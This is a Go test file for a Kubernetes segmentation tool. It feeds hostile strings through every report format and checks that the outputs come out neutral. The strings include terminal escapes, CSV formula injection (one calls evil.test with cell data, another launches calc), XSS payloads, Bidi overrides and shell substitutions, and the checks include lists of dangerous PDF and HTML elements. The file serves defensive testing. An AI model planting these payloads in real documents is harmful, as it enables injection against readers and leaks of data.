package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"go.yaml.in/yaml/v3"
	"golang.org/x/net/html"

	"github.com/bulkhead-sec/bulkhead/internal/report"
	"github.com/bulkhead-sec/bulkhead/internal/report/draw"
	"github.com/bulkhead-sec/bulkhead/internal/report/draw/formats"
)

// attacks are texts that do something to the reader of some format, when they come through as they are.
func attacks() []string {
	return []string{
		"\x1b[2J\x1b[1;32mPASSED\x1b[0m", "\x1b]0;title\a\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\", "\u009b31mred", "a\r\nPASSED", "\u202egnissap\u202c\u200b",
		"=HYPERLINK(\"http://evil.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "  =1",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</style></title></textarea><b>", "javascript:alert(1)",
		"[x](http://evil.test) ![y](http://evil.test/p.png)", "a | b `c` **d**\n# heading", "```\n---\nkind: x", "]]><!-- --> &amp; &#0;", "\";}graph{a->b", "%%{init: {}}%%\nclick a \"javascript:x\"",
		"{{.}} ${x} $(id) `id`", strings.Repeat("long-name.", 1024),
	}
}

// attackingInput is a folder of objects whose every text attacks: names, labels, annotations, images, hosts, paths, and
// the texts of a Segmentation.
func attackingInput(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	type object = map[string]any
	put := func(name string, o object) {
		data, err := json.Marshal(o)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var needs, exceptions, zones []object
	for i, s := range attacks() {
		labels := object{"app": fmt.Sprint("n", i), "other": s, s: s}
		meta := object{"name": s, "namespace": s, "labels": labels, "annotations": object{s: s, "note": s}}
		put(fmt.Sprintf("%02d-deployment.json", i), object{
			"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta,
			"spec": object{"selector": object{"matchLabels": labels}, "template": object{"metadata": object{"labels": labels}, "spec": object{
				"serviceAccountName": s, "containers": []object{{"name": s, "image": s, "args": []string{s}, "ports": []object{{"name": s, "containerPort": 80 + i}}}},
			}}},
		})
		put(fmt.Sprintf("%02d-namespace.json", i), object{"apiVersion": "v1", "kind": "Namespace", "metadata": object{"name": s, "labels": labels}})
		if len(s) > 1000 {
			continue // it stands in every connection already
		}
		put(fmt.Sprintf("%02d-service.json", i), object{
			"apiVersion": "v1", "kind": "Service", "metadata": meta, "spec": object{"type": "LoadBalancer", "selector": labels, "ports": []object{{"name": s, "port": 80 + i}}},
		})
		put(fmt.Sprintf("%02d-ingress.json", i), object{
			"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": meta,
			"spec": object{"rules": []object{{"host": s, "http": object{"paths": []object{{"path": s, "backend": object{"service": object{"name": s, "port": object{"name": s}}}}}}}}},
		})
		put(fmt.Sprintf("%02d-policy.json", i), object{
			"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta,
			"spec": object{"podSelector": object{"matchLabels": labels}, "ingress": []object{{"from": []object{{"podSelector": object{"matchLabels": object{"app": s}}}, {"ipBlock": object{"cidr": s}}}}}},
		})
		put(fmt.Sprintf("%02d-nonsense.json", i), object{"apiVersion": s, "kind": s, "metadata": meta})
		if strings.Contains(s, "{{") {
			continue // a template is not read
		}
		zones = append(zones, object{"name": s, "scope": "cde", "justification": s, "owner": s, "podSelector": object{"matchLabels": object{"app": fmt.Sprint("n", i)}}})
		needs = append(needs, object{"id": s, "from": "internet", "to": s, "ports": "tcp/80-200", "justification": s, "owner": s, "approver": s, "mitigation": s, "ticket": s, "dataClass": s})
		exceptions = append(exceptions, object{"id": s, "check": "DEN-01", "subject": s + "/*", "reason": s, "owner": s, "approver": s, "expires": "2030-01-01", "ticket": s})
	}
	put("segmentation.json", object{
		"apiVersion": "bulkhead.dev/v1alpha1", "kind": "Segmentation", "metadata": object{"name": attacks()[11]},
		"spec": object{"assume": object{"enforcer": "calico"}, "zones": zones, "needs": needs, "exceptions": exceptions},
	})
	return dir
}

// Hostile texts are neutral in every format of every command: one look at all that is written.
func TestHostileTextsAreNeutral(t *testing.T) {
	source := attackingInput(t)
	written := map[string][]byte{}
	keep := func(name string, args ...string) {
		code, out, errs := program(t, args...)
		if code == 2 {
			t.Fatalf("%.200s: %s", args, errs[max(0, len(errs)-300):])
		}
		written[name] = []byte(out)
		written[name+".stderr.txt"] = []byte(errs)
	}
	g := &globals{stdin: strings.NewReader(""), stdout: io.Discard, stderr: io.Discard, version: "v0.0.0-test"}
	a, err := g.analyse(t.Context(), []string{source}, &sourceOptions{})
	if err != nil {
		t.Fatal(err)
	}
	save := func(name string, write func(io.Writer) error) {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		written[name] = b.Bytes()
	}
	list := a.connections()
	list.Exposure = a.exposed()
	for _, f := range report.ListFormats {
		ext := map[string]string{"json": ".json", "csv": ".csv", "markdown": ".md"}[f.Name]
		save("list-"+f.Name+ext, func(w io.Writer) error { return f.Write(w, list, report.Options{}) })
	}
	for _, v := range []draw.View{draw.Network, draw.Zones} { // the others, and all formats of results, are in the package
		p, err := formats.PictureOf(a.input(), draw.Options{View: v, LetIn: a.letIn, Title: draw.Title{Cluster: attacks()[1], Source: attacks()[11]}})
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range formats.Formats {
			if f.Name != "png" && (v != draw.Zones || !slices.Contains(formats.GraphsOnly(), f.Name)) {
				save("map-"+string(v)+f.Ext, func(w io.Writer) error { return f.Write(w, p, formats.Options{}) })
			}
		}
	}
	keep("list.txt", "list", source)
	keep("diff.txt", "diff", source, "../../examples/card-shop/1-open")
	keep("init.yaml", "init", source)
	dir := filepath.Join(t.TempDir(), "p")
	keep("create.txt", "evidence", "create", "--out", dir, "--subject", attacks()[1], source)
	for name, data := range filesOf(t, dir) {
		written["package/"+name] = []byte(data)
	}
	if len(written) < 55 {
		t.Errorf("only %d texts were looked at", len(written))
	}
	for _, name := range slices.Sorted(maps.Keys(written)) {
		neutral(t, name, written[name])
	}
}

// neutral looks at a text with the eyes of its reader.
func neutral(t *testing.T, name string, data []byte) {
	t.Helper()
	var err error
	switch ext := filepath.Ext(name); ext {
	case ".pdf":
		for _, bad := range []string{"/JavaScript", "/Launch", "/SubmitForm", "/OpenAction <<"} {
			if bytes.Contains(data, []byte(bad)) {
				t.Errorf("%s says %s", name, bad)
			}
		}
		return
	case ".xlsx":
		neutralBook(t, name, data)
		return
	case ".json":
		if !json.Valid(data) {
			t.Errorf("%s is no JSON", name)
		}
	case ".csv":
		neutralCells(t, name, data)
	case ".html":
		neutralPage(t, name, data)
	case ".svg", ".xml", ".drawio":
		neutralXML(t, name, data)
	case ".yaml":
		dec := yaml.NewDecoder(bytes.NewReader(data))
		for err == nil {
			var v any
			err = dec.Decode(&v)
		}
		if !errors.Is(err, io.EOF) {
			t.Errorf("%s: %v", name, err)
		}
	case ".md":
		for _, bad := range []string{"<script", "<img", "<svg", "](http", "\n# heading"} {
			if strings.Contains(strings.ReplaceAll(string(data), `\]`, ""), bad) { // without brackets that are text
				t.Errorf("%s says %q", name, bad)
			}
		}
	}
	for i, r := range string(data) {
		if r >= ' ' && r < 0x7f {
			continue
		}
		if r != '\n' && r != '\t' && (r != '\r' || filepath.Ext(name) != ".csv") && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || unicode.In(r, unicode.Zl, unicode.Zp)) {
			t.Errorf("%s: %U at byte %d: %.60q", name, r, i, data[max(0, i-30):])
			return
		}
	}
}

func neutralCells(t *testing.T, name string, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", name, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsRune("=+-@\t\r\uff1d\uff0b\uff0d\uff20", []rune(first)[0]) && first != "-" {
				t.Errorf("%s: a cell %.60q", name, cell)
			}
		}
	}
}

func neutralPage(t *testing.T, name string, data []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	scripts := 0
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			scripts++
		case "img", "iframe", "object", "embed", "link", "base", "form", "textarea":
			t.Errorf("%s has an element <%s>", name, n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
				t.Errorf("%s: <%s %s=%.60q>", name, n.Data, a.Key, a.Val)
			}
		}
	}
	if scripts > 2 { // of ours: a program, and data that is none
		t.Errorf("%s has %d scripts", name, scripts)
	}
}

func neutralXML(t *testing.T, name string, data []byte) {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		e, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		if slices.Contains([]string{"script", "foreignObject", "image", "a", "use", "f"}, e.Name.Local) {
			t.Errorf("%s has an element <%s>", name, e.Name.Local)
		}
		for _, a := range e.Attr {
			if strings.HasPrefix(a.Name.Local, "on") || a.Name.Local == "href" {
				t.Errorf("%s: <%s %s=%.60q>", name, e.Name.Local, a.Name.Local, a.Value)
			}
		}
	}
}

func neutralBook(t *testing.T, name string, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		part, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		neutralXML(t, name+"/"+f.Name, part)
		neutral(t, name+"/"+f.Name+".txt", part)
	}
}
